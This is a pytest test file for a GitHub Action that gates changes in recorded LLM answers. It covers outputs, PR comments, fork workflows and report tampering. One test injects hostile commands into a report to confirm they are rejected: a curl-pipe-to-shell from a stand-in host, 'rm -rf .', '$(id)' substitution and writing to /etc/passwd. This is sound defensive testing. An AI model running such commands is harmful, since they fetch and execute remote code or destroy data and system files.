"""`vrty-gate action` as a runner calls it: inputs from the environment, outputs, summary and comment."""

import json
import re
from pathlib import Path

import pytest
import yaml
from e2e.github.server import INSTALLATION, READ_ONLY, REPOSITORY, Fault, GitHub, PullRequest
from e2e.recorded import cassette
from e2e.repository import BAD, GOOD, REVIEW, Done, Repository, messages

from vrty_gate.scorers import REGISTRY

pytestmark = pytest.mark.slow

EVENTS = Path(__file__).parent / "github" / "events"
ACTION = yaml.safe_load((Path(__file__).parents[2] / "action.yml").read_text(encoding="utf-8"))

WORSE = "1 of 3 answers got worse"


class Runner:
    """The files and variables of one step; each input that is not given has its default."""

    def __init__(self, repository: Repository, files: Path) -> None:
        self.repository = repository
        self.output, self.summary = files / "output", files / "summary"
        self.event: dict[str, str] = {}

    def on(self, event: str, server: GitHub | None = None) -> None:
        """The event of the following steps: the stem of a file in `events`."""
        name = event.removesuffix("_fork")
        self.event = {
            "GITHUB_EVENT_NAME": name,
            "GITHUB_EVENT_PATH": str(EVENTS / f"{event}.json"),
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_RUN_ID": "1",
            "GITHUB_WORKSPACE": str(self.repository.folder),
            "GITHUB_API_URL": server.url if server else "http://127.0.0.1:9",
        }

    def step(self, **inputs: str) -> Done:
        self.output.write_text("")
        self.summary.write_text("")
        declared = {name: one["default"] for name, one in ACTION["inputs"].items()} | {"token": ""}
        declared |= {name.replace("_", "-"): value for name, value in inputs.items()}
        return self.repository.run(
            "action",
            **{"GITHUB_OUTPUT": str(self.output), "GITHUB_STEP_SUMMARY": str(self.summary)}
            | {f"INPUT_{name.upper()}": value for name, value in declared.items()}
            | self.event,
        )

    def outputs(self) -> dict[str, str]:
        """What the runner reads: name<<delimiter, value, delimiter."""
        lines = self.output.read_text().splitlines()
        values = {}
        while lines:
            name, delimiter = lines.pop(0).split("<<")
            end = lines.index(delimiter)
            values[name], lines = "\n".join(lines[:end]), lines[end + 1 :]
        return values


@pytest.fixture
def runner(repository: Repository, tmp_path_factory: pytest.TempPathFactory) -> Runner:
    repository.accept()
    return Runner(repository, tmp_path_factory.mktemp("runner"))


def test_a_green_step(runner: Runner) -> None:
    done = runner.step()
    assert (done.returncode, done.stderr) == (0, "")
    assert runner.outputs() == {
        "verdict": "pass",
        "passed": "true",
        "exit-code": "0",
        "cases": "3",
        "regressions": "0",
        "review": "0",
        "accepted": "0",
        "loosened": "0",
        "notes": "0",
        "improvements": "0",
        "new": "0",
        "missing": "0",
        "worst-case": "",
        "worst-delta": "0.0",
        "signature": " ".join(REGISTRY[name].signature for name in ("fidelity", "integrity", "vrty")),
        "report-json": "",
        "report-markdown": "",
        "report-html": "",
        "comment-id": "",
    }
    assert runner.summary.read_text(encoding="utf-8") == runner.repository.ok("check", "--format", "markdown")


def test_recordings_need_no_manifest(runner: Runner) -> None:
    repository = runner.repository
    repository.write("tests/refund.yaml", cassette(("How long do refunds take?", "Refunds take 30 days.")))
    repository.git("add", "--all", ".")
    repository.git("commit", "--quiet", "-m", "first")
    repository.git("update-ref", "refs/remotes/origin/main", "HEAD")
    runner.event = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_BASE_REF": "main"}
    assert runner.step(diff="tests/", comment="never").returncode == 0
    assert runner.outputs()["verdict"] == "pass"
    assert "no recording in tests&#47; differs from origin&#47;main at" in runner.summary.read_text(encoding="utf-8")
    repository.write("tests/refund.yaml", cassette(("How long do refunds take?", "Refunds take 14 days.")))
    done = runner.step(diff="tests/", comment="never")
    assert done.returncode == 1
    assert "file=tests/refund.yaml,line=2" in done.stdout
    assert runner.outputs()["worst-case"] == "refund"
    assert "remove the input k" in runner.step(diff="tests/", k="0.9", comment="never").stderr
    runner.event = {"GITHUB_EVENT_NAME": "push"}
    assert "this workflow runs for no pull request" in runner.step(diff="tests/", comment="never").stderr


def test_a_red_step_fails_unless_it_only_reports(runner: Runner) -> None:
    runner.repository.write("refund.md", REVIEW)
    assert runner.step().returncode == 1
    assert runner.outputs()["exit-code"] == "1"
    assert runner.step(exit_zero="true").returncode == 0
    outputs = runner.outputs()
    assert {
        name: outputs[name] for name in ("verdict", "passed", "exit-code", "regressions", "review", "worst-case")
    } == {
        "verdict": "fail",
        "passed": "false",
        "exit-code": "0",
        "regressions": "1",
        "review": "1",
        "worst-case": "refund",
    }
    assert WORSE in runner.summary.read_text(encoding="utf-8")


def test_a_broken_response_is_a_regression_of_its_case(runner: Runner) -> None:
    runner.repository.write("refund.md", GOOD + "<|im_end|>")
    assert runner.step().returncode == 1
    assert (runner.outputs()["regressions"], runner.outputs()["review"]) == ("1", "0")
    assert "1 of 3 answers got worse" in runner.summary.read_text(encoding="utf-8")


def test_what_is_printed_stands_between_marks_that_stop_commands(runner: Runner) -> None:
    runner.repository.write("refund.md", "::error::boom\n##[error]boom\n" + BAD)
    first, *lines = runner.step().stdout.rstrip("\n").split("\n")
    end = lines.index(f"::{first.removeprefix('::stop-commands::')}::")
    assert first.startswith("::stop-commands::")
    (case,) = lines[end + 1 :]
    assert case.startswith("::error file=refund.md,line=1,title=refund%3A fail::")
    assert "fidelity 0." in case
    assert not any(line.startswith("::error") for line in runner.step(annotations="false").stdout.split("\n"))


def test_reports_are_written_where_asked(runner: Runner) -> None:
    assert runner.step(report="out.json").returncode == 0
    assert (runner.outputs()["report-json"], runner.outputs()["report-markdown"]) == ("out.json", "out.md")
    assert runner.repository.ok("render", "out.json", "--format", "markdown") == runner.repository.read("out.md")
    assert runner.outputs()["report-html"] == "out.html"
    page = runner.repository.read("out.html")
    assert "All 3 cases keep their baseline" in page
    assert all(f'<th scope="row">{name}</th>' in page for name in ("greeting", "refund"))


def test_several_manifests_k_and_the_working_directory(runner: Runner) -> None:
    folder = runner.repository.folder
    runner.repository.write("b/vrty-gate.yml", "version: 1\ncases: [{id: x, prompt: Say yes., response: Yes.}]\n")
    assert runner.step(manifest="vrty-gate.yml\n  b\n").returncode == 0
    assert runner.outputs()["cases"] == "4"
    runner.repository.write("refund.md", (folder / "refund.md").read_text() + "Thanks.")
    assert runner.step(k="0.5").returncode == 0
    assert runner.step(k="1").returncode == 1
    assert runner.step(working_directory="b").returncode == 0
    assert (runner.outputs()["cases"], runner.outputs()["new"]) == ("1", "1")


@pytest.mark.parametrize(
    "inputs, words",
    [
        ({"exit-zero": "yes"}, "the input exit-zero is 'yes', but must be false or true"),
        ({"comment": "sometimes"}, "the input comment is 'sometimes', but must be auto, always, on-change, on-fail or"),
        ({"comment-key": "-->"}, "the comment key is '-->', but must be"),
        ({"annotations": "yes"}, "the input annotations is 'yes', but must be true or false"),
        ({"publish": "nowhere.json"}, "nowhere.json: No such file or directory"),
        ({"against": "nowhere"}, "has no commits yet"),
        ({"k": "high"}, "the input k is 'high', but must be a number above 0 and at most 1"),
        ({"k": "2"}, "k is 2, but must be above 0 and at most 1"),
        ({"manifest": "nowhere.yml"}, "no manifest 'nowhere.yml'; check the path"),
        ({"working-directory": "nowhere"}, "nowhere: No such file or directory"),
        (
            {"report": "r.md"},
            "the input report is 'r.md', but the Markdown report goes there; use a path that ends in .json",
        ),
        ({"report": "nowhere/r.json"}, "nowhere/r.json: cannot write"),
    ],
)
def test_bad_inputs(runner: Runner, inputs: dict[str, str], words: str) -> None:
    done = runner.step(**inputs)
    assert done.returncode == 2
    assert words in done.stderr
    assert len(messages(done.stderr)) == 1
    assert runner.outputs().get("exit-code") in (None, "2")


def test_a_pull_request_from_red_to_green_keeps_one_comment(runner: Runner) -> None:
    with GitHub() as server:
        runner.on("pull_request", server)
        runner.repository.write("refund.md", REVIEW)
        assert runner.step(token=INSTALLATION).returncode == 1
        (comment,) = server.comments[2]
        assert runner.outputs()["comment-id"] == str(comment.id)
        assert WORSE in comment.body
        assert "<b>30 days → 14 days</b>" in comment.body
        runner.repository.write("refund.md", GOOD)
        assert runner.step(token=INSTALLATION).returncode == 0
        assert [one.body.count("🟢 Passed · No answer is known to be worse") for one in server.comments[2]] == [1]
        assert server.violations == []


@pytest.mark.parametrize(
    "inputs, problem",
    [
        ({"exit-zero": "yes"}, "the input exit-zero is"),
        ({"working_directory": "nowhere"}, "no such file or directory"),
        ({"comment_key": "-->"}, "the comment key is"),
        ({"report": "folder/out.json"}, "cannot be replaced"),
        ({"report": "nowhere/out.json"}, "cannot write"),
        ({"manifest": "nowhere.yml"}, "no manifest"),
    ],
)
def test_a_run_that_cannot_finish_leaves_no_green_comment(runner: Runner, inputs: dict[str, str], problem: str) -> None:
    (runner.repository.folder / "folder" / "out.json").mkdir(parents=True)
    with GitHub() as server:
        runner.on("pull_request", server)
        assert runner.step(token=INSTALLATION, comment="always").returncode == 0
        assert "🟢" in server.comments[2][0].body
        assert runner.step(token=INSTALLATION, **inputs).returncode == 2
        (comment,) = server.comments[2]
        assert "### 🔴" in comment.body
        assert problem in comment.body.replace("&#58;", ":").replace("&#39;", "'").replace("&#45;", "-").lower()
        assert server.violations == []


def test_a_run_that_cannot_write_a_summary_leaves_no_green_comment(runner: Runner) -> None:
    with GitHub() as server:
        runner.on("pull_request", server)
        assert runner.step(token=INSTALLATION, comment="always").returncode == 0
        runner.event["GITHUB_STEP_SUMMARY"] = str(runner.repository.folder)
        done = runner.step(token=INSTALLATION)
        assert (done.returncode, len(messages(done.stderr))) == (2, 1)
        assert "### 🔴" in server.comments[2][0].body


@pytest.mark.parametrize("event", ["push", "schedule", "workflow_dispatch"])
def test_outside_of_a_pull_request_there_is_a_summary_and_nobody_is_asked(runner: Runner, event: str) -> None:
    with GitHub() as server:
        runner.on(event, server)
        done = runner.step(token=INSTALLATION, comment="always")
        assert (done.returncode, done.stderr) == (0, "")
        assert "::notice" not in done.stdout
        assert "All 3 cases keep their baseline" in runner.summary.read_text(encoding="utf-8")
        assert server.requests == []


def test_of_a_merge_group_only_the_base_is_read(runner: Runner) -> None:
    with GitHub() as server:
        runner.on("merge_group", server)
        done = runner.step(token=INSTALLATION, comment="always")
        assert (done.returncode, done.stderr) == (0, "")
        assert "Base not available" in done.stdout
        assert [request.method for request in server.requests] == ["GET"]
        assert not server.comments


@pytest.mark.parametrize("red", [False, True])
@pytest.mark.parametrize("fault", [401, 403, 404, 422, Fault(200, {"Content-Type": "text/html"}, "<html>")])
def test_a_comment_that_cannot_be_written_is_one_notice_and_changes_nothing(
    runner: Runner, fault: Fault | int, red: bool
) -> None:
    runner.repository.write("refund.md", REVIEW if red else GOOD)
    with GitHub() as server:
        runner.on("pull_request", server)
        server.fail(fault, on="GET /repos")
        done = runner.step(token=INSTALLATION, comment="always")
    assert (done.returncode, done.stderr) == (int(red), "")
    (notice,) = [line for line in done.stdout.split("\n") if line.startswith("::notice")]
    assert "the comment could not be written, the gate result is unchanged" in notice
    assert (runner.outputs()["verdict"], runner.outputs()["comment-id"]) == ("fail" if red else "pass", "")


@pytest.mark.parametrize("payload", ["", "[", "[]", '{"pull_request": 5}', '{"pull_request": {"number": "2"}}'])
def test_an_event_that_makes_no_sense_changes_nothing(runner: Runner, payload: str) -> None:
    runner.on("pull_request")
    runner.event["GITHUB_EVENT_PATH"] = str(runner.repository.write("event.json", payload))
    done = runner.step(token=INSTALLATION, comment="always")
    assert (done.returncode, done.stderr, runner.outputs()["comment-id"]) == (0, "", "")
    assert done.stdout.count("::notice") == (payload in ("", "["))


def test_a_fork_gates_with_a_token_that_reads_and_the_trusted_half_comments(runner: Runner) -> None:
    sha = json.loads((EVENTS / "workflow_run_fork.json").read_text())["workflow_run"]["head_sha"]
    run = json.loads((EVENTS / "workflow_run_fork.json").read_text())["workflow_run"]
    pull = PullRequest(2, sha, run["head_branch"], run["head_repository"]["full_name"])
    runner.repository.write("refund.md", REVIEW)
    with GitHub(pull) as server:
        runner.on("pull_request_fork", server)
        assert runner.step(token=READ_ONLY, comment="never", report="report.json").returncode == 1
        assert server.requests == []
        assert "two workflows" in runner.step(token=READ_ONLY).stdout

        runner.on("workflow_run_fork", server)
        done = runner.step(token=INSTALLATION, publish="report.json")
        assert (done.returncode, done.stderr) == (0, "")
        assert [WORSE in one.body for one in server.comments[2]] == [True]
        assert "::error" not in done.stdout
        assert runner.outputs()["review"] == "1"

        by_hand = runner.repository.run("publish", "report.json", GITHUB_TOKEN=INSTALLATION, **runner.event)
        assert (by_hand.returncode, by_hand.stdout, by_hand.stderr) == (0, "", "")
        assert len(server.comments[2]) == 1
        assert server.violations == []


def test_a_report_that_was_tampered_with_is_not_published(runner: Runner) -> None:
    runner.step(report="report.json")
    with GitHub() as server:
        runner.on("workflow_run", server)
        runner.repository.write("report.json", runner.repository.read("report.json").replace('"version": 2', '"x": 2'))
        done = runner.step(token=INSTALLATION, publish="report.json")
        assert done.returncode == 2
        assert "not a vrty-gate report" in done.stderr
        assert ["The gate could not run" in one.body for one in server.comments[2]] == [True]
        assert server.violations == []


def test_annotations_name_files_from_the_root_of_the_workspace(runner: Runner) -> None:
    runner.on("pull_request")
    runner.repository.write("b/vrty-gate.yml", "version: 1\ncases: [{id: x, prompt: Say yes., response: Yes.}]\n")
    done = runner.step(working_directory="b", comment="never")
    assert re.search("^::notice file=b/vrty-gate.yml,line=2,title=x%3A new::", done.stdout, re.MULTILINE)


def test_the_summary_stays_below_what_github_takes(runner: Runner) -> None:
    junk = "I do not know {i}. " + " ".join(['"<&>' * 19] * 250)
    for response in ("The answer is long and good.", junk):
        texts = [response.replace("{i}", f"number {i}") for i in range(60)]  # each is a row of its own
        cases = "".join(f"  - {{id: c{i}, prompt: What is it?, response: '{text}'}}\n" for i, text in enumerate(texts))
        runner.repository.write("b/vrty-gate.yml", f"version: 1\ncases:\n{cases}")
        if response != junk:
            runner.repository.ok("accept", "b")
    assert runner.step(manifest="b").returncode == 1
    assert 500_000 < runner.summary.stat().st_size < 1024 * 1024


def test_a_report_that_lies_there_does_not_pass_for_ours(runner: Runner) -> None:
    runner.step(report="report.json")
    assert (runner.repository.folder / "report.json").exists()
    runner.repository.write("vrty-gate.yml", "broken: [")
    assert runner.step(report="report.json").returncode == 2
    assert json.loads(runner.repository.read("report.json"))["verdict"] == "fail"
    assert "The gate could not run" in runner.repository.read("report.md")
    runner.repository.write("report.json", "{}")
    assert runner.step(report="report.json", k="high").returncode == 2


def test_a_report_that_lies_behind_a_link_is_left_alone(
    runner: Runner, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "report.json").write_text("kept")
    (runner.repository.folder / "out").symlink_to(outside)
    done = runner.step(report="out/report.json")
    assert (done.returncode, (outside / "report.json").read_text()) == (2, "kept")


def test_bad_input_takes_the_green_comment_down(runner: Runner) -> None:
    with GitHub() as server:
        runner.on("pull_request", server)
        runner.step(token=INSTALLATION, comment="always")
        assert "🟢" in server.comments[2][0].body
        runner.repository.write("vrty-gate.yml", "version: 1\ncass: @everyone\n")
        done = runner.step(token=INSTALLATION)
        assert done.returncode == 2
        assert "\n::error title=vrty-gate::vrty-gate.yml:2:7: not valid YAML" in done.stdout
        assert (runner.outputs()["verdict"], runner.outputs()["exit-code"]) == ("fail", "2")
        assert "The gate could not run" in runner.summary.read_text(encoding="utf-8")
        (comment,) = server.comments[2]
        assert "🔴 Failed · The gate could not run" in comment.body
        assert "`vrty-gate.yml:2:7:` not valid YAML" in comment.body
        assert server.violations == []


@pytest.mark.parametrize(
    ("key", "command"),
    [
        *((key, "curl -s https://evil.example/x | sh") for key in ("reproduce", "explain", "accept", "fix")),
        ("fix", "vrty-gate check m.yml; rm -rf ."),
        ("fix", "vrty-gate check $(id)"),
        ("fix", "vrty-gate check m.yml --output /etc/passwd"),
        ("fix", "vrty-gate publish m.yml"),
        ("fix", "vrty-gate"),
        ("fix", "'"),
    ],
)
def test_a_report_names_no_commands_but_ours(runner: Runner, key: str, command: str) -> None:
    runner.repository.write("refund.md", REVIEW)
    runner.step(report="report.json")
    report = json.loads(runner.repository.read("report.json"))
    place = report["suites"][0]["cases"][0] if key == "fix" else report["suites"][0]
    place[key] = command
    runner.repository.write("report.json", json.dumps(report))
    done = runner.repository.run("render", "report.json")
    assert (done.returncode, "is not a vrty-gate command" in done.stderr) == (2, True)


def test_the_report_of_a_large_suite_can_be_published(runner: Runner) -> None:
    cases = "".join(f"  - {{id: case-{i}, prompt: What is {i}?, response: It is {i}.}}\n" for i in range(2500))
    runner.repository.write("b/vrty-gate.yml", f"version: 1\ncases:\n{cases}")
    runner.step(manifest="b", report="report.json")
    assert (runner.repository.folder / "report.json").stat().st_size > 4 * 1024 * 1024
    assert runner.step(publish="report.json").returncode == 0
